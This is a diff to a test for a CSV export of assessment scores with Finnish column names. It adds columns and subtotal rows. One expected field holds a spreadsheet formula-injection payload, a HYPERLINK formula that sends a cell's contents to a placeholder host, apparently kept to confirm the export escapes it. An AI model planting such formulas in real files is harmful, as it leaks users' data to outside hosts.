@@ -139,8 +139,10 @@ describe('the CSV export', () => {
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
     const rows = Papa.parse<string[]>(text.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
-    expect(rows[0]).toEqual(['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Pisteet: Aino', 'Pisteet: Bea', 'Yhteisarvio', 'Havainnot']);
-    expect(rows).toHaveLength(26);
-    expect(rows[2]).toEqual(['staffing-2', 'Henkilöstö', '2', 'Keskittyminen työhönvalmennukseen', '2', '4', '3', `'=HYPERLINK("http://x?d="&A1)`]);
+    expect(rows[0]).toEqual(['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Pisteet: Aino', 'Pisteet: Bea', 'Yhteisarvio', 'Havainnot', 'Tietolähteet', 'Suositukset']);
+    // 25 items, then the three section subtotals and the total (docs/csv-columns.md).
+    expect(rows).toHaveLength(30);
+    expect(rows[2]?.slice(0, 8)).toEqual(['staffing-2', 'Henkilöstö', '2', 'Keskittyminen työhönvalmennukseen', '2', '4', '3', `'=HYPERLINK("http://x?d="&A1)`]);
+    expect(rows.slice(26).map((row) => row[0])).toEqual(['section:staffing', 'section:organization', 'section:services', 'total']);
   });
 });
